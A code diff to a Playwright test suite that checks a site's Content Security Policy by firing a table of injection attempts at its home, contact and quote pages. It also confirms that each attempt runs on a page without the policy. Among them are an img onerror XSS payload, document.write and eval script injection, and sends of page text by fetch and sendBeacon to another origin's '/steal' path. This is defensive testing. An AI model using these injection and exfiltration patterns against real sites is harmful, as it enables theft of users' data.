@@ -40,15 +40,22 @@ const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<un
       image.setAttribute("src", "/nowhere.png");
       document.body.append(image);
     }),
-  "innerHTML": (page) =>
+  innerHTML: (page) =>
     page.evaluate(() => {
       document.body.innerHTML = "<img src=x onerror=\"document.documentElement.dataset.hacked='yes'\">";
     }),
   "document.write": (page) =>
     page.evaluate(() => document.write("<script>document.documentElement.dataset.hacked='yes'</script>")),
-  "eval": (page) => page.evaluate(() => globalThis.eval("document.documentElement.dataset.hacked = 'yes'")),
+  // From a timer, because what the test's own connection runs may always use eval.
+  eval: (page) =>
+    page.evaluate(() => {
+      // biome-ignore lint/security/noGlobalEval: that it does not run is what is tested.
+      setTimeout(() => globalThis.eval("document.documentElement.dataset.hacked = 'yes'"));
+    }),
   "a function made of text": (page) =>
-    page.evaluate(() => new Function("document.documentElement.dataset.hacked = 'yes'")()),
+    page.evaluate(() => {
+      setTimeout(() => new Function("document.documentElement.dataset.hacked = 'yes'")());
+    }),
   "a timer made of text": (page) =>
     page.evaluate(() => setTimeout("document.documentElement.dataset.hacked = 'yes'" as never, 0)),
   "a javascript: address": (page) =>
@@ -61,14 +68,16 @@ const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<un
   "a style attribute": (page) =>
     page.evaluate(() => {
       document.body.setAttribute("style", "--hacked: yes");
-      if (getComputedStyle(document.body).getPropertyValue("--hacked")) document.documentElement.dataset.hacked = "yes";
+      if (getComputedStyle(document.body).getPropertyValue("--hacked"))
+        document.documentElement.dataset.hacked = "yes";
     }),
   "a style element": (page) =>
     page.evaluate(() => {
       const style = document.createElement("style");
       style.append("body { --hacked: yes }");
       document.head.append(style);
-      if (getComputedStyle(document.body).getPropertyValue("--hacked")) document.documentElement.dataset.hacked = "yes";
+      if (getComputedStyle(document.body).getPropertyValue("--hacked"))
+        document.documentElement.dataset.hacked = "yes";
     }),
   "a style sheet of another origin": (page, other) => appendLink(page, "stylesheet", `${other}/style.css`),
   "a picture of another origin": (page, other) =>
@@ -78,9 +87,12 @@ const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<un
       document.body.append(image);
     }, `${other}/pixel.png`),
   "words fetched to another origin": (page, other) =>
-    page.evaluate((url) => fetch(url, { method: "POST", mode: "no-cors", body: document.body.innerText }), `${other}/steal`),
+    page.evaluate(
+      (url) => fetch(url, { method: "POST", mode: "no-cors", body: document.body.textContent }),
+      `${other}/steal`,
+    ),
   "a beacon to another origin": (page, other) =>
-    page.evaluate((url) => navigator.sendBeacon(url, document.body.innerText), `${other}/steal`),
+    page.evaluate((url) => navigator.sendBeacon(url, document.body.textContent), `${other}/steal`),
   "a frame of another origin": (page, other) =>
     page.evaluate((url) => {
       const frame = document.createElement("iframe");
@@ -100,7 +112,9 @@ const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<un
       document.body.append(object);
     }, `${other}/object`),
   "a worker": (page) =>
-    page.evaluate(() => new Worker(URL.createObjectURL(new Blob(["fetch('/')"], { type: "text/javascript" })))),
+    page.evaluate(
+      () => new Worker(URL.createObjectURL(new Blob(["fetch('/')"], { type: "text/javascript" }))),
+    ),
   "a base element": (page, other) =>
     page.evaluate((url) => {
       const base = document.createElement("base");
@@ -121,27 +135,29 @@ const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<un
     }, `${other}/steal`),
 };
 
-/** Changes of place and pop-ups are the browser's own doing and the policy's business only where it says so. */
+const longEnough = 120_000;
+
 for (const path of [paths.home, paths.contact, paths.rfq]) {
-  for (const [name, attack] of Object.entries(attacks)) {
-    test(`${path} does not run ${name}`, async ({ page }) => {
-      const other = await startOtherOrigin();
-      const violations: string[] = [];
-      await page.exposeFunction("reportViolation", (directive: string) => violations.push(directive));
-      await page.addInitScript(() => {
-        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
-          (globalThis as unknown as { reportViolation(directive: string): void }).reportViolation(effectiveDirective),
-        );
-      });
+  test(`${path} runs nothing that was injected`, async ({ page }) => {
+    test.setTimeout(longEnough);
+    const other = await startOtherOrigin();
+    const violations = await watchViolations(page);
+    for (const [name, attack] of Object.entries(attacks)) {
       await page.goto(path);
+      violations.length = 0;
       await attack(page, other.origin).catch(() => {});
-      await expect.poll(() => violations.length, { message: "the browser reports what it blocked" }).toBeGreaterThan(0);
-      expect(await page.evaluate(() => document.documentElement.dataset.hacked)).toBeUndefined();
-      expect(new URL(page.url()).pathname).toBe(path);
-      expect(other.requests).toEqual([]);
-      await other.close();
-    });
-  }
+      await expect
+        .poll(() => violations.length, { message: `${name} is reported as blocked` })
+        .toBeGreaterThan(0);
+      expect([name, await page.evaluate(() => document.documentElement.dataset.hacked)]).toEqual([
+        name,
+        undefined,
+      ]);
+      expect([name, new URL(page.url()).pathname]).toEqual([name, path]);
+      expect([name, other.requests]).toEqual([name, []]);
+    }
+    await other.close();
+  });
 
   test(`${path} cannot be shown in a frame of another site`, async ({ page, baseURL }) => {
     const other = await startOtherOrigin(`<iframe src="${baseURL}${path}"></iframe>`);
@@ -153,7 +169,11 @@ for (const path of [paths.home, paths.contact, paths.rfq]) {
     await other.close();
   });
 
-  test(`${path} opened by another site cannot be reached through its window`, async ({ page, context, baseURL }) => {
+  test(`${path} opened by another site cannot be reached through its window`, async ({
+    page,
+    context,
+    baseURL,
+  }) => {
     const other = await startOtherOrigin();
     await page.goto(other.origin);
     const opened = context.waitForEvent("page");
@@ -168,23 +188,41 @@ for (const path of [paths.home, paths.contact, paths.rfq]) {
   });
 }
 
-/** The same attack on a page without a policy, so that it is known to be one: a test that cannot fail is worth nothing. */
-for (const [name, attack] of Object.entries(attacks)) {
-  test(`without the policy there would be ${name}`, async ({ page }) => {
+/** So that each is known to be an attack: a test that cannot fail is worth nothing. */
+test("without the policy every one of these injections would have run", async ({ page }) => {
+  test.setTimeout(longEnough);
+  const bare = await startOtherOrigin("<!doctype html><title>Bare</title><body>Words</body>");
+  for (const [name, attack] of Object.entries(attacks)) {
     const other = await startOtherOrigin();
-    const bare = await startOtherOrigin("<!doctype html><title>Bare</title><body>Words</body>");
     await page.goto(bare.origin);
     await attack(page, other.origin).catch(() => {});
     await expect
-      .poll(async () => {
-        const isMarked = await page.evaluate(() => document.documentElement.dataset.hacked).catch(() => undefined);
-        const isGone = !page.url().startsWith(bare.origin);
-        return isMarked !== undefined || isGone || other.requests.length > 0 || page.workers().length > 0;
-      })
+      .poll(
+        async () => {
+          const mark = await page
+            .evaluate(() => document.documentElement.dataset.hacked)
+            .catch(() => undefined);
+          return mark !== undefined || other.requests.length > 0 || page.workers().length > 0;
+        },
+        { message: name },
+      )
       .toBe(true);
     await other.close();
-    await bare.close();
+  }
+  await bare.close();
+});
+
+async function watchViolations(page: Page) {
+  const violations: string[] = [];
+  await page.exposeFunction("reportViolation", (directive: string) => violations.push(directive));
+  await page.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+      (globalThis as unknown as { reportViolation(directive: string): void }).reportViolation(
+        effectiveDirective,
+      ),
+    );
   });
+  return violations;
 }
 
 async function appendLink(page: Page, rel: string, href: string) {
